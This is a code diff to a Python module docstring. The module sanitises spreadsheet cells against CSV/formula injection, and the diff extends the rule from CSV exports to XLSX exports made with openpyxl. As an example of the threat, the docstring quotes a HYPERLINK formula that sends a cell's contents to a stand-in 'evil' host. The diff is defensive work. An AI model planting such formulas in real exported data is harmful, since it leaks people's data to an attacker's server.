@@ -1,8 +1,10 @@
-"""CSV cells that a spreadsheet will not run as formulas (CSV or "formula" injection).
+"""Spreadsheet cells that will not run as formulas (CSV or "formula" injection): the one home
+of the rule.
 
 A clinician's name imported as ``=HYPERLINK("http://evil/?"&A1, "Dr Smith")`` becomes a live
-formula when an organizer opens an exported file in Excel or LibreOffice. Every CSV export of
-data that people typed (names, emails, sites, venues, notes) passes its cells through here.
+formula when an organizer opens an exported file in Excel or LibreOffice. Every export of data
+that people typed (names, emails, sites, venues, notes), CSV or XLSX, passes its cells through
+here: openpyxl, too, stores a string that starts with "=" as a formula.
 """
 
 from collections.abc import Iterable
